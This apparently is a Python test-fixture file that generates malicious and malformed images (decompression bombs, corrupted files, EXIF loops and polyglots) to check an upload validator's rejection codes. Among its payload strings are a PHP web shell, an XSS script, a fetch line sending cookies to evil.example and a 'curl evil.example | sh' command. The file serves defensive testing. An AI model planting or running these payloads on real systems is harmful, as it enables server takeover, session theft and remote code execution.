"""Files that mean harm, and files that came to it: made by code, the same ones every time.

Each says which codes may come of it; none means that it may pass as well (a flipped bit can go unnoticed).
"""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Iterator
from dataclasses import dataclass

from tests.images.exif import exif
from tests.images.samples import (
    animation,
    chunk,
    encode,
    jpeg_segment,
    photograph,
    with_chunk,
    with_exif,
    with_riff_chunk,
    with_segment,
)

KINDS = ("jpeg", "png", "webp", "gif", "avif")
PHP = b"<?php system($_GET['c']); ?>"
SCRIPT = b"<script>alert(document.domain)</script>"
BROKEN = frozenset({"image.truncated", "image.corrupt"})


@dataclass(frozen=True, slots=True)
class Case:
    name: str
    data: bytes
    codes: frozenset[str] = frozenset()

    def allows(self, code: str | None) -> bool:
        """`code` of `Unfit`, None for a picture."""
        return code in self.codes if self.codes else code is None or code.startswith("image.")


def case(name: str, data: bytes, *codes: str) -> Case:
    return Case(name, data, frozenset(f"image.{each}" for each in codes))


def good() -> dict[str, bytes]:
    image = photograph(96, 64)
    pictures = {kind: encode(image, kind) for kind in KINDS}
    return {
        **pictures,
        "progressive": encode(image, "jpeg", interlace=True),
        "interlaced": encode(image, "png", interlace=True),
        "lossless": encode(image, "webp", lossless=True),
        "exif": with_exif(pictures["jpeg"], exif(6)),
        "animation": animation(4),
        "animated webp": animation(4, "webp"),
    }


def broken(seed: int = 7, flips: int = 40) -> Iterator[Case]:
    """Cut short at many places, and with bits turned over."""
    dice = random.Random(seed)
    for name, data in good().items():
        for share in (0.02, 0.1, 0.3, 0.5, 0.7, 0.9, 0.97):
            at = max(4, int(len(data) * share))
            yield Case(f"{name} cut at {at}", data[:at], BROKEN | {"image.type_unknown"})
        for n in range(flips):
            bent = bytearray(data)
            for _ in range(dice.choice((1, 1, 4, 16))):
                bent[dice.randrange(len(bent))] ^= 1 << dice.randrange(8)
            yield case(f"{name} bent {n}", bytes(bent))
        start = dice.randrange(len(data) // 2)
        yield case(f"{name} with a hole", data[:start] + bytes(64) + data[start + 64 :])
        yield case(f"{name} with noise", data[:start] + dice.randbytes(256) + data[start + 256 :])


def png(
    width: int, height: int, *, color: int = 2, depth: int = 8, interlaced: int = 0, body: bytes = b""
) -> bytes:
    header = struct.pack(">IIBBBBB", width, height, depth, color, 0, 0, interlaced)
    packed = body or zlib.compress(bytes(1000), 9)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", packed) + chunk(b"IEND", b"")


def jpeg_of(width: int, height: int, *, progressive: bool = False) -> bytes:
    """A real JPEG that claims another size."""
    data = encode(photograph(32, 32), "jpeg", interlace=progressive)
    at = data.index(b"\xff\xc2" if progressive else b"\xff\xc0")
    return data[: at + 5] + struct.pack(">HH", height, width) + data[at + 9 :]


def zeros(count: int) -> bytes:
    """That many zeros, packed without ever being held."""
    packer, packed = zlib.compressobj(9), []
    for _ in range(count // 1_000_000):
        packed.append(packer.compress(bytes(1_000_000)))
    return b"".join(packed) + packer.flush()


def bombs() -> Iterator[Case]:
    pictures = good()
    yield case("png of 65535 x 65535", png(65535, 65535), "dimensions_absurd")
    yield case("png of 2^31 x 1", png(2**31 - 1, 1), "dimensions_absurd")
    yield case("png of nothing", png(0, 5), "dimensions_absurd", "corrupt")
    yield case(
        "png of 200 MP that is all there", png(20000, 10000, body=zeros(600_000_000)), "too_many_pixels"
    )
    yield case("png of 90 MP that is all there", png(10000, 9000, body=zeros(270_009_000)))
    yield case("png of 90 MP that is not", png(10000, 9000), "truncated", "corrupt")
    yield case("png, interlaced, 16 bits, 90 MP", png(10000, 9000, depth=16, interlaced=1), "too_many_pixels")
    yield case("jpeg of 65535 x 65535", jpeg_of(65535, 65535), "dimensions_absurd")
    yield case("jpeg of 95 MP that is not there", jpeg_of(10000, 9500), "truncated", "corrupt")
    yield case("jpeg, progressive, 95 MP", jpeg_of(10000, 9500, progressive=True), "too_many_pixels")
    yield case("jpeg with a thousand scans", scans(1000), "bomb")
    packed = zeros(100_000_000)
    yield case("profile of 100 MB", with_chunk(pictures["png"], b"iCCP", b"p\0\0" + packed), "bomb")
    yield case("text of 100 MB", with_chunk(pictures["png"], b"zTXt", b"t\0\0" + packed), "bomb")
    yield case("long text of 100 MB", with_chunk(pictures["png"], b"iTXt", b"t\0\1\0\0\0" + packed), "bomb")
    yield case("a million chunks", pictures["png"][:33] + chunk(b"teSt", b"") * 1_000_000, "bomb")
    yield case("gif of 5,000 frames", many_frames(5000), "too_many_frames")
    yield case("gif of a million blocks", pictures["gif"][:-1] + b"\x21\xfe\0" * 1_000_000 + b";", "bomb")
    yield case(
        "gif of 60000 x 60000",
        pictures["gif"][:6] + b"\x60\xea\x60\xea" + pictures["gif"][10:],
        "dimensions_absurd",
    )
    yield case(
        "gif of 20000 x 20000",
        pictures["gif"][:6] + b"\x20\x4e\x20\x4e" + pictures["gif"][10:],
        "too_many_pixels",
    )
    yield case("avif of 16000 x 16000", avif_of(16000, 16000), "too_many_pixels")
    yield case("avif of 4000 x 4000 that is not there", avif_of(4000, 4000))
    yield case("webp, lossless, 16383 x 16383", webp_of(16383, 16383), "too_many_pixels", "corrupt")
    yield from exif_bombs(pictures["jpeg"])


def scans(count: int) -> bytes:
    data = encode(photograph(32, 32), "jpeg", interlace=True)
    at = data.rindex(b"\xff\xda")
    return data[:at] + data[at:-2] * count + b"\xff\xd9"


def many_frames(count: int) -> bytes:
    one = animation(1)
    at = one.index(b"\x2c", 13 + (3 << ((one[10] & 7) + 1) if one[10] & 0x80 else 0))
    return one[:at] + one[at:-1] * count + b";"


def avif_of(width: int, height: int) -> bytes:
    data = good()["avif"]
    at = data.index(b"ispe") + 8
    return data[:at] + struct.pack(">II", width, height) + data[at + 8 :]


def webp_of(width: int, height: int) -> bytes:
    data = encode(photograph(96, 64), "webp", lossless=True)
    at = data.index(b"VP8L") + 9
    packed = int.from_bytes(data[at : at + 4], "little") >> 28 << 28 | (height - 1) << 14 | (width - 1)
    return data[:at] + packed.to_bytes(4, "little") + data[at + 4 :]


def exif_bombs(jpeg: bytes) -> Iterator[Case]:
    loop = b"II*\0" + struct.pack("<I", 8) + struct.pack("<H", 1) + struct.pack("<HHII", 0x8769, 4, 1, 8)
    yield case("exif that points to itself", with_exif(jpeg, loop + struct.pack("<I", 8)))
    huge = b"II*\0" + struct.pack("<IH", 8, 1) + struct.pack("<HHII", 0x9286, 7, 0xFFFFFFF0, 26) + bytes(4)
    yield case("exif of 4 GB", with_exif(jpeg, huge))
    many = (
        b"II*\0" + struct.pack("<IH", 8, 5000) + struct.pack("<HHII", 0x010F, 2, 60000, 8) * 5000 + bytes(4)
    )
    yield case("exif of 5,000 long texts", with_exif(jpeg, many[:65000]))
    yield case("many segments", jpeg[:2] + jpeg_segment(0xE1, b"Exif\0\0" + exif()) * 5000 + jpeg[2:])
    yield case("turned by nine", with_exif(jpeg, exif(9)))


def archive() -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as written:
        written.writestr("Evil.class", b"\xca\xfe\xba\xbe" + bytes(100))
    return packed.getvalue()


def polyglots() -> Iterator[Case]:
    pictures = good()
    endings = {
        "zip": archive(),
        "zip after padding": bytes(100) + archive(),
        "rar": b"Rar!\x1a\x07\x01\x00" + bytes(50),
        "pdf": b"%PDF-1.7\n1 0 obj\n",
        "html": b"<html><body>" + SCRIPT,
        "php": PHP,
        "javascript": b"=1;fetch('https://evil.example/'+document.cookie);//",
        "program": b"MZ\x90\0" + bytes(60) + b"This program cannot be run in DOS mode",
        "shell": b"#!/bin/sh\ncurl evil.example | sh\n",
        "phar": b"GIF89a<?php __HALT_COMPILER(); ?>",
    }
    for kind in KINDS:
        for name, ending in endings.items():
            yield case(f"{kind} and {name}", pictures[kind] + ending, "polyglot")
    jpeg, png_, webp = pictures["jpeg"], pictures["png"], pictures["webp"]
    yield case("php in a comment", with_segment(jpeg, 0xFE, PHP), "polyglot")
    yield case("php in exif", with_exif(jpeg, exif() + PHP), "polyglot")
    yield case("script in a comment", with_segment(jpeg, 0xFE, SCRIPT.upper()), "polyglot")
    yield case("pdf in a comment", with_segment(jpeg, 0xFE, b"%PDF-1.4"), "polyglot")
    yield case("php in a text", with_chunk(png_, b"tEXt", b"Comment\0" + PHP), "polyglot")
    yield case("php in a packed text", with_chunk(png_, b"zTXt", b"C\0\0" + zlib.compress(PHP)), "polyglot")
    packed = b"C\0\1\0\0\0" + zlib.compress(SCRIPT)
    yield case("script in a packed long text", with_chunk(png_, b"iTXt", packed), "polyglot")
    yield case("php in webp's xmp", with_riff_chunk(webp, b"XMP ", PHP, flag=4), "polyglot")
    yield case("php in an unknown chunk", with_riff_chunk(webp, b"JUNK", PHP, flag=0), "polyglot")
    gif = pictures["gif"]
    yield case("php in gif's comment", gif[:-1] + b"\x21\xfe" + bytes([len(PHP)]) + PHP + b"\0;", "polyglot")
    yield case(
        "php in a free box", pictures["avif"] + struct.pack(">I", 8 + len(PHP)) + b"free" + PHP, "polyglot"
    )
    yield case("zip in a comment that reaches the end", zip_inside(jpeg), "polyglot")
    hidden = b"JFIF\0\1\1\0\0\1\0\1\0\0" + b"*/=alert(1)/*".ljust(0x2F2A - 16, b"\0")
    yield case("jpeg that is javascript", jpeg[:2] + jpeg_segment(0xE0, hidden) + jpeg[2:], "polyglot")


def zip_inside(jpeg: bytes) -> bytes:
    """An archive within a segment, whose own comment covers the rest of the picture."""
    packed = archive()
    before = with_segment(jpeg, 0xEF, packed)
    rest = len(before) - (2 + 4 + len(packed))
    packed = packed[:-2] + struct.pack("<H", rest)
    return with_segment(jpeg, 0xEF, packed)


def strangers() -> Iterator[Case]:
    svg = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
    yield case("nothing", b"", "empty")
    yield case("svg", svg, "svg_refused")
    yield case("svg with a prologue", b'\xef\xbb\xbf<?xml version="1.0"?>\n<!-- a -->\n' + svg, "svg_refused")
    yield case("html", b"  <!DOCTYPE html><html><body>404</body></html>", "type_unknown")
    yield case("json", b'{"error": "not found"}', "type_unknown")
    yield case("pdf", b"%PDF-1.7\n" + bytes(100), "type_unknown")
    yield case("program", b"MZ" + bytes(100), "type_unknown")
    yield case("zip", archive(), "type_unknown")
    yield case("packed svg", b"\x1f\x8b\x08" + bytes(50), "type_unknown")
    yield case("video", b"\0\0\0\x20ftypisom" + bytes(50), "type_unknown")
    yield case("heic", b"\0\0\0\x18ftypheic\0\0\0\0mif1heic", "type_unsupported")
    yield case("tiff", b"II*\0\x08\0\0\0" + struct.pack("<H", 0) + struct.pack("<I", 8), "type_unsupported")
    yield case("bmp", b"BM" + bytes(60), "type_unsupported")
    yield case("noise", random.Random(3).randbytes(5000), "type_unknown")
    heads = {
        "jpeg": b"\xff\xd8\xff",
        "png": b"\x89PNG\r\n\x1a\n",
        "webp": b"RIFF\x04\0\0\0WEBP",
        "gif": b"GIF89a",
    }
    for kind, head in heads.items():
        yield case(f"only the head of {kind}", head, "truncated", "corrupt")
        yield case(
            f"the head of {kind} and zeros", head + bytes(5000), "truncated", "corrupt", "dimensions_absurd"
        )
    yield case("only the head of avif", b"\0\0\0\x14ftypavif\0\0\0\0avif", "corrupt", "truncated")


def everything() -> Iterator[Case]:
    yield from strangers()
    yield from polyglots()
    yield from bombs()
    yield from broken()
